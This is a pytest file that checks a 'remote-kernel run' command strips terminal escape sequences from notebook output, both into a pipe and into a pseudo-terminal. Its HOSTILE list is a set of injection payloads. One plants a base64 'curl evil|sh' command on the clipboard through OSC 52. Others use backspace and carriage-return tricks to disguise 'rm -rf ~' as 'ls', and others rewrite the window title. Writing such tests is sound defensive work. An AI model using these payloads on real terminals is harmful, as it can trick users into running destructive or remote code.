"""`remote-kernel run` writes nothing a terminal would obey (issue 23, finding 14).

A notebook whose cells print OSC 52 (clipboard), OSC 0/2 (window title), cursor moves and erases,
DCS, APC, PM and SOS strings, 8-bit C1 codes, a bare ESC, BEL, and backspace or carriage-return
tricks runs on the embedded pool (real kernel, real sessions), once into a pipe and once into a
pseudo-terminal; the bytes written are checked. Plain text, newlines and tabs stay; on a terminal,
colour (SGR) sequences stay too, followed by a reset.
"""
from __future__ import annotations

import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from kernel_support import ROOT, embedded_env, install_kernelspec
from nbformat.v4 import new_code_cell, new_notebook

HOSTILE = [  # 'pw' + 'ned' and the like: the shown source must not hold the words the output must lose
    "import sys, base64\nsys.stdout.write('osc52:\\x1b]52;c;' + base64.b64encode(b'curl evil|sh').decode() + '\\x07ok1\\n')",
    "print('title:\\x1b]0;' + 'pw' + 'ned\\x1b\\\\ok2\\x1b]2;' + 'pw' + 'ned\\x07')",
    "print('erase:\\x1b[2J\\x1b[H\\x1b[1;1H\\x1b[K\\x1b[?25l\\x1b[5Aok3')",
    "print('dcs:\\x1bP+q544e\\x1b\\\\apc:\\x1b_x\\x1b\\\\pm:\\x1b^y\\x1b\\\\sos:\\x1bXz\\x1b\\\\ok4')",
    "print('c1:\\x9b2J\\x9d0;' + 'pw' + 'ned\\x07\\x90q\\x9c\\x9f\\x9e\\x85ok5')",
    "print('\\ttab')",
    "print('bare:\\x1b\\x07\\x1bcok6\\x1b')",
    "print('tricks:' + 'sa' + 'fe\\b\\b\\b\\bEVIL ' + 'rm' + ' -rf ~\\rls ok7\\x1b[2X\\bJ\\x0b\\x0c\\x7f')",
    "class Shown:\n    def __repr__(self):\n        return 'repr:\\x1b]52;c;eA==\\x07\\x1b[2Jok8'\nShown()",
    "raise ValueError('err:\\x1b]0;' + 'pw' + 'ned\\x07\\x1b[2Jok9')",
]
PLAIN = ["ok1", "ok2", "ok3", "ok4", "ok5", "ok6", "ls ok7", "ok8", "ok9", "osc52:", "\ttab"]
SGR = re.compile(rb"\x1b\[[0-9;:]*m")


@pytest.fixture(scope="module")
def notebook(tmp_path_factory) -> Path:
    install_kernelspec()
    folder = tmp_path_factory.mktemp("run")
    book = new_notebook(cells=[new_code_cell(code) for code in HOSTILE])
    book.cells[-1].metadata["tags"] = ["raises-exception"]
    book.metadata["kernelspec"] = {"name": "remote-python", "display_name": "Python (remote)", "language": "python"}
    path = folder / "hostile.ipynb"
    nbformat.write(book, path)
    return path


def command(path: Path) -> list[str]:
    return [sys.executable, "-m", "remote_kernel", "run", str(path), "--output", str(path.with_suffix(".out.ipynb"))]


def check_plain(written: bytes, allowed: re.Pattern[bytes] | None) -> None:
    text = allowed.sub(b"", written) if allowed else written
    bad = sorted({bytes([b]) for b in text if (b < 0x20 and b not in b"\n\t") or b == 0x7f})
    assert not bad, f"control bytes {bad} reached the terminal: {written!r}"
    assert not re.search(rb"\xc2[\x80-\x9f]", text), f"a C1 control reached the terminal: {written!r}"
    shown = written.decode()
    for word in PLAIN:
        assert word in shown, (word, shown)
    assert "pwned" not in shown and "safe" not in shown and "rm -rf" not in shown


def test_run_into_a_pipe_writes_plain_text_only(notebook):
    env = {key: value for key, value in embedded_env().items() if key != "TERM"}
    done = subprocess.run(command(notebook), capture_output=True, cwd=ROOT, env=env, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    check_plain(done.stdout, None)
    assert b"ValueError" in done.stdout


def test_run_on_a_terminal_keeps_colours_and_nothing_else(notebook):
    main, secondary = pty.openpty()
    process = subprocess.Popen(command(notebook), stdout=secondary, stderr=subprocess.PIPE, cwd=ROOT,
                               env=embedded_env())
    os.close(secondary)
    written = b""
    try:
        while True:
            ready, _, _ = select.select([main], [], [], 300)
            assert ready, "no output from remote-kernel run within 300 s"
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the other side closed
                break
            if not chunk:
                break
            written += chunk
    finally:
        os.close(main)
        code = process.wait(60)
        process.stderr.close()
    assert code == 0, written
    written = written.replace(b"\r\n", b"\n")  # the terminal's own line ending (onlcr)
    check_plain(written, SGR)
    assert SGR.search(written) and written.count(b"\x1b[0m") >= 1  # the traceback's colours, then a reset
